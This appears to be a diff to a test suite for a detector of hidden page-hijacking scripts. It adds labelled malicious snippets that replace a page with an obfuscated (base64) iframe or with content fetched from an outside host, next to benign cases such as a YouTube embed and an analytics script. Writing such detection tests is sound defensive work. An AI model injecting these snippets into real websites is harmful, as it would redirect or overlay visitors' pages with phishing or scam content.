@@ -34,6 +34,14 @@ describe("what scripts do behind visitors' backs", () => {
       "addEventListener('popstate', () => { location.replace('https://there.org/offer') })",
     ],
     [
+      "a hidden frame in place of the page",
+      `documentElement.innerHTML=atob("${btoa("<iframe src='https://there.org/'>")}")`,
+    ],
+    [
+      "a page that is fetched in place of this one",
+      "fetch('https://there.org/p').then(r=>r.text()).then(t=>{document.open();document.write(t)})",
+    ],
+    [
       "a frame over the window that asks for a proof",
       "f=createElement('iframe');f.src='https://there.org/verify';f.style='position:fixed;inset:0'",
     ],
@@ -66,6 +74,7 @@ describe("what scripts do behind visitors' backs", () => {
       'box.innerHTML = \'<iframe src="https://www.youtube.com/embed/a" width="100%"></iframe>\'',
     ],
     ["a frame of its own", "document.body.innerHTML = '<iframe src=\"/quiz\"></iframe>'"],
+    ["a part of its own", "fetch('/news').then(r=>r.text()).then(t=>{document.body.innerHTML=t})"],
     ["a counter", "s=createElement('script');s.src='https://www.google-analytics.com/analytics.js';"],
     [
       "comments under a name of their own",
